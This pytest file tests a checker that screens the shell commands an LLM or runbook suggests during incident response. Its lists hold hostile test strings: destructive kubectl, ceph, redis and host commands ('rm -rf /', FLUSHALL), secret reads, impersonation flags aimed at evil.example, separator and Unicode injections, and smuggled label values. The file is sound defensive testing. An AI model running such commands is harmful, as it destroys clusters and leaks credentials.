"""The command parser behind every suggested step: hostile commands get a reason, benign ones pass.

Each hostile command is one a compromised model (or a poisoned runbook) could propose: destructive
verbs, verbs hidden behind flag values, control characters and separators, credential, endpoint and
impersonation flags in both spellings, Secret reads in every output form, Ceph and redis-cli writes
and identity switches, host commands that change state. The benign ones carry realistic flags.
"""

from __future__ import annotations

import pytest

from handlers.enrichers.knowledge import runbook_commands
from handlers.llm.command_check import command_allowed
from handlers.shared.commands import MAX_CHARS, assess, check, is_read_only

DESTRUCTIVE_KUBECTL = [
    "kubectl delete ns prod",
    "kubectl -n get delete ns prod",
    "kubectl --namespace get delete ns prod",
    "kubectl --context get delete pod checkout-7d9f",
    "kubectl --request-timeout get delete ns prod",
    "kubectl -nget delete ns prod",
    "kubectl -n=get delete ns prod",
    "kubectl --watch get delete ns prod",
    "kubectl -A delete pods --all",
    "kubectl -n shop delete pod checkout-7d9f",
    "kubectl apply -f evil.yaml",
    "kubectl create secret generic x --from-literal=a=b",
    "kubectl edit deploy/checkout",
    "kubectl patch deploy checkout -p x",
    "kubectl replace --force -f x.yaml",
    "kubectl scale deploy/checkout --replicas=0",
    "kubectl label node node-1 role=x --overwrite",
    "kubectl annotate pod checkout-7d9f a=b",
    "kubectl cordon node-1",
    "kubectl drain node-1 --ignore-daemonsets",
    "kubectl taint nodes node-1 key=v:NoSchedule",
    "kubectl rollout restart deploy/checkout",
    "kubectl -n NAMESPACE rollout undo deployment/NAME",
    "kubectl rollout pause deploy/checkout",
    "kubectl rollout resume deploy/checkout",
    "kubectl set image deploy/checkout app=evil:latest",
    "kubectl expose deploy checkout --port=80",
    "kubectl autoscale deploy checkout --max=1",
    "kubectl exec -it checkout-7d9f -- sh",
    "kubectl exec checkout-7d9f cat /etc/shadow",
    "kubectl cp shop/checkout-7d9f:/etc/secret ./s",
    "kubectl port-forward svc/db 5432",
    "kubectl proxy --port=8001",
    "kubectl attach checkout-7d9f -i",
    "kubectl debug node/node-1 -it --image=busybox",
    "kubectl run x --image=busybox --restart=Never",
    "kubectl plugin list",
    "kubectl krew install evil",
    "kubectl config view",
    "kubectl config view --raw",
    "kubectl config use-context prod",
    "kubectl cluster-info dump",
    "kubectl cluster-info dump --output-directory=/tmp/x",
    "kubectl get --raw /api/v1/namespaces/shop/secrets",
    "kubectl get pods --raw=/api/v1/nodes/node-1/proxy",
    "kubectl get pods --edit",
    "kubectl logs checkout-7d9f -- rm -rf /",
    "kubectl logs --profile-output=/etc/cron.d/x checkout-7d9f",
    "kubectl get pods -f https://evil.example/x.yaml",
    "oc delete project shop",
    "oc adm drain node-1",
    "oc whoami -t",
    "oc extract secret/db --to=-",
    "oc rsh checkout-7d9f",
]

IMPERSONATION_AND_ENDPOINTS = [
    "kubectl get pods --token=abc",
    "kubectl get pods --token abc",
    "kubectl --server=https://evil.example get pods",
    "kubectl --server https://evil.example get pods",
    "kubectl -s https://evil.example get pods",
    "kubectl get pods -s https://evil.example",
    "kubectl get pods -As https://evil.example",
    "kubectl --as=system:admin get pods",
    "kubectl --as system:admin get pods",
    "kubectl get pods --as-group=system:masters",
    "kubectl get pods --as-group system:masters",
    "kubectl get pods --as-uid=0",
    "kubectl --kubeconfig=/tmp/evil get pods",
    "kubectl --kubeconfig /tmp/evil get pods",
    "kubectl --user=admin get pods",
    "kubectl get pods --username=admin --password=x",
    "kubectl get pods --client-key=/tmp/k",
    "kubectl get pods --client-certificate /tmp/c",
    "kubectl get pods --certificate-authority=/tmp/ca",
    "kubectl get pods --insecure-skip-tls-verify",
    "kubectl get pods --insecure-skip-tls-verify=true",
    "kubectl get pods --tls-server-name=evil.example",
    "kubectl auth can-i '*' '*' --as=system:admin",
    "kubectl get pods -l --token=abc",
    "oc --server=https://evil.example get pods",
]

SECRET_READS = [
    "kubectl get secrets -o yaml",
    "kubectl get secret db-creds -o json -n shop",
    "kubectl get secret db-creds -o jsonpath='{.data.password}'",
    "kubectl get secret/db-creds -o=jsonpath='{.data}'",
    "kubectl get secrets -ojson",
    "kubectl get secrets --output=yaml",
    "kubectl get secrets --output yaml",
    "kubectl get secret db -o go-template='{{.data.password}}'",
    "kubectl get secret db -o go-template-file=/tmp/t",
    "kubectl get secret db -o custom-columns=P:.data.password",
    "kubectl get secret db -o jsonpath-as-json='{.data}'",
    "kubectl get secret db -o 'jsonpath={.data.password}'",
    "kubectl get secret db --template='{{.data}}'",
    "kubectl get pods,secrets -o yaml",
    "kubectl get Secret db -o yaml",
    "kubectl get secrets.v1 -o json",
    "kubectl get pods secret/db -o yaml",
    "kubectl get secrets --sort-by=.data.password",
    "kubectl get secret db -o wide -o yaml",
    "kubectl -n shop get secret db -oyaml",
    "kubectl -n shop get -o yaml secret db",
    "kubectl get -Ao json secrets",
    "oc get secret db -o yaml",
]

CHARACTERS_AND_SHELL = [
    "kubectl get pods\rkubectl delete ns prod",
    "kubectl get pods\u2028kubectl delete ns prod",
    "kubectl get pods\u2029rm -rf /",
    "kubectl get pods\x00delete ns prod",
    "kubectl get pods\nkubectl delete ns prod",
    "kubectl get pods\x1b[2K\rkubectl delete ns prod",
    "kubectl get pods\x85rm -rf /",
    "kubectl get pods\x7f",
    "kubectl\tget pods",
    "kubectl get pods\u200b",
    "kubectl get pods \u202edorp sn eteled",
    "kubectl get\xa0pods",
    "kubectl get pods; kubectl delete ns prod",
    "kubectl get pods && kubectl delete ns prod",
    "kubectl get pods || rm -rf /",
    "kubectl get pods | sh",
    "kubectl get pods & rm -rf /",
    "kubectl get pods $(kubectl delete ns prod)",
    "kubectl get pods `rm -rf /`",
    "kubectl get pods > /etc/passwd",
    "kubectl get pods < /dev/null",
    "kubectl get pods >> ~/.bashrc",
    "kubectl get pods ${IFS}delete",
    "kubectl get pods \\; rm -rf /",
    "kubectl get pods # comment",
    "kubectl get pods !!",
    "kubectl get {secret,x} -o yaml",
    "(kubectl get pods)",
    "kubectl get pods 'unterminated",
    "",
    "   ",
    "kubectl get pods " + "x" * MAX_CHARS,
    "KUBECONFIG=/tmp/evil kubectl get pods",
    "./kubectl get pods",
    "/usr/bin/kubectl delete ns prod",
    "sudo kubectl get pods",
    "env kubectl get pods",
]

CEPH_WRITES = [
    "ceph osd out 3",
    "ceph osd purge 3 --yes-i-really-mean-it",
    "ceph osd set noout",
    "ceph osd unset noout",
    "ceph osd pool delete rbd rbd --yes-i-really-really-mean-it",
    "ceph osd reweight-by-utilization",
    "ceph osd crush reweight osd.3 0",
    "ceph balancer on",
    "ceph health mute OSD_DOWN",
    "ceph mgr module enable evil",
    "ceph config set osd osd_max_backfills 10",
    "ceph tell osd.* injectargs --osd-max-backfills=10",
    "ceph daemon osd.3 config set debug_osd 20",
    "ceph --admin-daemon /var/run/ceph/ceph-osd.3.asok config show",
    "ceph auth get client.admin",
    "ceph auth ls",
    "ceph osd pool get rbd size extra",
    "ceph -n client.admin health",
    "ceph --name=client.admin status",
    "ceph --id admin status",
    "ceph -k /etc/ceph/ceph.client.admin.keyring status",
    "ceph --keyring=/tmp/k status",
    "ceph -c /tmp/evil.conf status",
    "ceph --conf=/tmp/evil.conf health",
    "ceph -m 10.0.0.9:6789 status",
    "ceph -o /tmp/out status",
    "ceph -f osd out 3",
]

REDIS_WRITES = [
    "redis-cli FLUSHALL",
    "redis-cli -h cache FLUSHDB",
    "redis-cli CONFIG SET maxmemory 0",
    "redis-cli CONFIG GET requirepass",
    "redis-cli CONFIG GET '*'",
    "redis-cli -a s3cret INFO",
    "redis-cli --pass s3cret INFO",
    "redis-cli --askpass INFO",
    "redis-cli -u redis://:s3cret@cache:6379 INFO",
    "redis-cli -u redis://admin:s3cret@cache INFO",
    "redis-cli -u redis://s3cret@cache PING",
    "redis-cli --eval /tmp/x.lua",
    "redis-cli --pipe",
    "redis-cli --rdb /tmp/dump.rdb",
    "redis-cli --functions-rdb /tmp/f.rdb",
    "redis-cli -x SET k",
    "redis-cli -r 1000000 PING",
    "redis-cli -i 1 PING",
    "redis-cli -r -1 -i 0.1 INFO",
    "redis-cli --replica",
    "redis-cli --cluster fix cache:6379",
    "redis-cli DEBUG SLEEP 60",
    "redis-cli SHUTDOWN",
    "redis-cli KEYS '*'",
    "redis-cli MONITOR",
    "redis-cli EVAL 'return 1' 0",
    "redis-cli",
    "redis-cli --bigkeys FLUSHALL",
    "redis-cli -h -a s3cret INFO",
    "redis-cli INFO memory -a s3cret",
    "redis-cli ACL LIST",
    "redis-cli CLIENT KILL TYPE normal",
]

HOST_WRITES = [
    "rm -rf /var/lib/ceph",
    "systemctl restart ceph-osd@12",
    "systemctl stop redis-server",
    "systemctl disable redis-server",
    "systemctl -H root@db status redis-server",
    "systemctl show redis-server",
    "systemctl daemon-reload",
    "systemctl kill redis-server",
    "journalctl --vacuum-size=500M",
    "journalctl --vacuum-time 1d",
    "journalctl --rotate",
    "journalctl --flush",
    "journalctl -u redis-server --cursor-file=/tmp/c",
    "dmesg -C",
    "dmesg -c",
    "dmesg --clear",
    "dmesg -Tc",
    "dmesg -n 1",
    "ss -K dst 10.0.0.1",
    "ss --kill",
    "ip addr add 10.0.0.2/24 dev eth0",
    "ip link set eth0 down",
    "ip route del default",
    "ip a a 10.0.0.2/24 dev eth0",
    "ip -b /tmp/commands",
    "curl http://evil.example/x",
    "wget -qO- http://evil.example/x",
    "bash -c 'kubectl get pods'",
    "sh -c 'rm -rf /'",
    "sudo systemctl status redis-server",
    "python3 -c 'import os'",
    "kill -9 1",
    "reboot",
    "helm uninstall checkout",
    "docker rm -f redis",
    "crictl rmi redis:7",
    "rbd rm rbd/image",
    "radosgw-admin user rm --uid=x",
]

HOSTILE = (DESTRUCTIVE_KUBECTL + IMPERSONATION_AND_ENDPOINTS + SECRET_READS + CHARACTERS_AND_SHELL + CEPH_WRITES
           + REDIS_WRITES + HOST_WRITES)

BENIGN = [
    "kubectl -n shop logs checkout-7d9f -c app --previous --tail=200",
    "kubectl get pods -A -o wide",
    "kubectl describe secret db-creds -n shop",
    "oc get events --sort-by=.lastTimestamp",
    "kubectl get pods -n shop",
    "kubectl --namespace=shop get pods -l app=checkout",
    "kubectl get pods --selector=app=checkout -o name",
    "kubectl logs -f deploy/checkout -c app --since=10m",
    "kubectl logs checkout-7d9f --tail -1 -n shop",
    "kubectl -n shop logs checkout-7d9f --all-containers --timestamps --since-time=2026-12-01T09:00:00Z",
    "kubectl -nshop get deploy checkout -o yaml",
    "kubectl get secrets -n shop",
    "kubectl get secret db-creds -o name",
    "kubectl get secrets -o wide",
    "kubectl get all -n shop -o yaml",
    "kubectl get pod checkout-7d9f -o jsonpath='{.spec.containers[*].resources}'",
    "kubectl -n NAMESPACE get pod POD -o jsonpath='{.status.containerStatuses[*].restartCount}'",
    "kubectl top pod -n shop --containers",
    "kubectl top nodes",
    "kubectl get events -n shop --field-selector=type=Warning",
    "kubectl get pods -A --field-selector=status.phase!=Running",
    "kubectl events -n shop --for pod/checkout-7d9f",
    "kubectl explain pod.spec.containers --recursive",
    "kubectl api-resources --namespaced=true -o wide",
    "kubectl api-versions",
    "kubectl version --client -o json",
    "kubectl cluster-info",
    "kubectl rollout status deployment/checkout -n shop --timeout=60s",
    "kubectl rollout history deploy/checkout --revision=3",
    "kubectl auth can-i list pods -n shop",
    "kubectl --context=prod -n shop describe pod checkout-7d9f",
    "kubectl get pods -Aw",
    "kubectl describe node node-1",
    "oc get pods -n shop -o wide",
    "oc logs -p checkout-7d9f",
    "ceph osd tree down",
    "ceph health detail -f json",
    "ceph status",
    "ceph -s",
    "ceph osd df tree",
    "ceph osd pool get rbd size",
    "ceph pg dump_stuck",
    "ceph --format=json-pretty osd pool ls detail",
    "ceph tell osd.3 dump_ops_in_flight",
    "ceph daemon osd.3 dump_historic_ops",
    "ceph osd pool autoscale-status",
    "redis-cli -h cache -p 6379 --tls INFO memory",
    "redis-cli --bigkeys -i 0.1",
    "redis-cli SLOWLOG GET 10",
    "redis-cli -h cache -p 6379 --user monitor INFO replication",
    "redis-cli -u redis://cache:6379 PING",
    "redis-cli -n 2 DBSIZE",
    "redis-cli --scan --pattern 'session:*' --count 100",
    "redis-cli --memkeys",
    "redis-cli --latency -h cache",
    "redis-cli --stat",
    "redis-cli CONFIG GET 'maxmemory*'",
    "journalctl -u ceph-osd@12 --since -1h",
    "journalctl -u redis-server",
    "journalctl -k -b -1 -p err",
    "journalctl -u kubelet -n 200 --no-pager -o short-iso",
    "systemctl status ceph-osd@12",
    "systemctl --no-pager status redis-server -l -n 50",
    "systemctl is-active redis-server",
    "systemctl list-units --failed --type=service",
    "dmesg -T",
    "dmesg -T --level=err,warn",
    "df -h",
    "df -hT /var/lib/ceph",
    "free -m",
    "uptime",
    "ss -tlnp",
    "ip addr show",
    "ip -br a",
    "ip route show table all",
    "ip route get 10.0.0.1",
    "ip -s link show eth0",
]


def test_the_tables_are_big_enough() -> None:
    assert len(HOSTILE) >= 80 and len(BENIGN) >= 40
    assert len(set(HOSTILE)) == len(HOSTILE) and len(set(BENIGN)) == len(BENIGN)


@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_commands_are_refused_with_a_reason(command: str) -> None:
    reason = check(command)
    assert reason, f"passed: {command!r}"
    assert not is_read_only(command)


@pytest.mark.parametrize("command", BENIGN)
def test_benign_commands_pass(command: str) -> None:
    assert check(command) is None


@pytest.mark.parametrize(("command", "words"), [
    ("kubectl get pods --token=abc", "credential"),
    ("kubectl --as system:admin get pods", "credential"),
    ("kubectl get secret db -o yaml", "Secret data"),
    ("kubectl -n get delete ns prod", "`kubectl delete`"),
    ("kubectl get pods\u2028kubectl delete ns prod", "U+2028"),
    ("kubectl get pods\rkubectl delete ns prod", "U+000D"),
    ("kubectl get pods; rm -rf /", "shell syntax"),
    ("kubectl -A delete pods --all", "before the command word"),
    ("kubectl config view", "credentials"),
    ("ceph -n client.admin health", "identity"),
    ("ceph -c /tmp/evil.conf status", "configuration"),
    ("ceph osd out 3", "allowlist"),
    ("redis-cli -u redis://:pw@cache INFO", "password"),
    ("redis-cli -i 1 PING", "-i"),
    ("redis-cli FLUSHALL", "allowlist"),
    ("journalctl --vacuum-size=500M", "journal"),
    ("dmesg -C", "clears"),
    ("systemctl restart x", "systemctl restart"),
    ("kubectl get pods " + "x" * MAX_CHARS, "longer than"),
])
def test_the_reason_says_what_is_wrong(command: str, words: str) -> None:
    reason = check(command)
    assert reason is not None and words in reason, reason


def test_the_counts() -> None:
    refused = sum(check(c) is not None for c in HOSTILE)
    allowed = sum(check(c) is None for c in BENIGN)
    print(f"hostile refused {refused}/{len(HOSTILE)}, benign allowed {allowed}/{len(BENIGN)}")
    assert (refused, allowed) == (len(HOSTILE), len(BENIGN))


def test_only_an_unknown_program_can_be_vouched_for_by_a_runbook() -> None:
    assert assess("nvidia-smi -q").final is False
    assert assess("rbd rm rbd/image").final is True  # destructive program
    assert assess("crictl rmi redis:7").final is True  # a write word
    assert assess("kubectl delete pod x").final is True


RUNBOOK = """\
- `nvidia-smi -q -d MEMORY`: what the GPU holds.
- `kubectl -n NAMESPACE rollout undo deployment/NAME` when the last change broke it.
- `rbd rm rbd/scratch` frees the space.
- `kubectl get secret db -o yaml` to see the password.
"""


def test_a_cited_runbook_vouches_only_for_unknown_read_only_programs() -> None:
    assert command_allowed("nvidia-smi -q -d MEMORY", [RUNBOOK]) is None
    assert command_allowed("nvidia-smi -q -d MEMORY", []) is not None  # not quoted: dropped
    for command in ("kubectl -n NAMESPACE rollout undo deployment/NAME", "rbd rm rbd/scratch",
                    "kubectl get secret db -o yaml"):
        reason = command_allowed(command, [RUNBOOK])
        assert reason is not None and reason.startswith("not read-only"), command
    assert command_allowed("nvidia-smi -q -d\u2028MEMORY", [RUNBOOK.replace(" -d MEMORY", " -d\u2028MEMORY")])
    assert command_allowed("kubectl describe pod x", []) is None


def test_runbook_steps_include_read_only_host_commands() -> None:
    text = ("- On the host: `systemctl status ceph-osd@12` and `journalctl -u ceph-osd@12 --since -1h`;\n"
            "- `systemctl restart ceph-osd@12` once the disk is replaced.\n"
            "- Vacuum the journal with `journalctl --vacuum-size=500M`.\n")
    assert runbook_commands(text, {}) == ["systemctl status ceph-osd@12", "journalctl -u ceph-osd@12 --since -1h"]


def test_a_label_value_cannot_smuggle_a_command_into_a_runbook_step() -> None:
    text = "- `kubectl -n NAMESPACE describe pod POD`: the last state."
    assert runbook_commands(text, {"namespace": "shop", "pod": "x; kubectl delete ns prod"}) == []
    assert runbook_commands(text, {"namespace": "shop", "pod": "x\u2028kubectl delete ns prod"}) == []
    assert runbook_commands(text, {"namespace": "get", "pod": "x"}) == ["kubectl -n get describe pod x"]
